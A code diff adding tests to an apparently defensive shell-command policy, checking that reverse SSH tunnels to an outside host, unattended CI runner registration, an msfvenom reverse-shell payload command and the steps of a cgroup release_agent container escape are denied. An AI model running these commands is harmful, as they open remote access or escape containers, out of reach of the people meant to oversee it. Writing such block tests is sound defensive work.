@@ -104,3 +104,28 @@ test('Windows downloads run, credential reads and profile wipes are decided like
   }
   assert.equal(run('more C:\\Users\\dev\\project\\README.md').action === 'deny', false);
 });
+
+test('reverse forwards in any ssh spelling, CI runners taking outside jobs and payload generators are denied', () => {
+  for (const c of [
+    'ssh -o StrictHostKeyChecking=no -fNR 2222:localhost:22 tunnel@203.0.113.5',
+    'ssh -NfR 8080:localhost:80 u@203.0.113.5',
+    'ssh -o RemoteForward=9000:localhost:22 u@203.0.113.5',
+    'gitlab-runner register --non-interactive --url https://gitlab.example.net --registration-token T --executor shell',
+    'cd ~/actions-runner && ./config.sh --url https://github.com/someone/ci --token AAB --unattended && ./run.sh',
+    'msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.5 LPORT=4444 -f elf -o x',
+  ]) {
+    expectExec(c, 'deny');
+  }
+  for (const c of ['ssh -NL 5432:localhost:5432 bastion', 'ssh -p 2222 dev@host uptime', 'gitlab-runner --version']) {
+    const d = run(c);
+    assert.ok(d.action !== 'deny' && d.action !== 'ask', `${c}: ${d.action}`);
+  }
+});
+
+test('the cgroup release_agent escape is stopped at each of its steps', () => {
+  expectExec('mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && echo 1 > /tmp/cg/x/notify_on_release', 'deny');
+  expectExec('echo "$host_path/cmd" > $d/release_agent', 'deny');
+  expectExec('runc --root /run/containerd/runc/k8s.io exec -t abc sh', 'deny');
+  const d = run('sh -c "echo \\$\\$ > /tmp/cg/x/cgroup.procs"');
+  assert.ok(d.action === 'ask' || d.action === 'deny', d.action);
+});
